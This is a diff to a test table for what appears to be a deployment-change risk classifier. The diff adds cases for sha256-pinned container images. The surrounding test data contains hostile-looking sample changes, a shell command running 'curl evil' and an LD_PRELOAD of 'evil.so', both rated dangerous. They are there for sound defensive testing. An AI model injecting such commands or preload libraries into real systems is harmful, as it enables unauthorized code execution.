@@ -44,6 +44,12 @@ describe.each([
     { change: { env: {} }, risk: 'moderate', reason: 'as last applied' },
     { change: { command: ['sh', '-c', 'curl evil'] }, risk: 'dangerous', reason: 'a command nobody wrote' },
     { change: { image: 'other' }, risk: 'dangerous', reason: 'an image nobody wrote' },
+    {
+      change: { image: `app@sha256:${'a'.repeat(64)}` },
+      risk: 'moderate',
+      reason: 'as desired, pinned to a content of it',
+    },
+    { change: { image: `other@sha256:${'a'.repeat(64)}` }, risk: 'dangerous', reason: 'a pinned image nobody wrote' },
     { change: { env: { LD_PRELOAD: 'evil.so' } }, risk: 'dangerous', reason: 'a variable nobody wrote' },
     { change: { files: { 'a.txt': 'x' } }, risk: 'dangerous', reason: 'a file nobody wrote' },
   ])('$reason → $risk', ({ change, risk }) => {
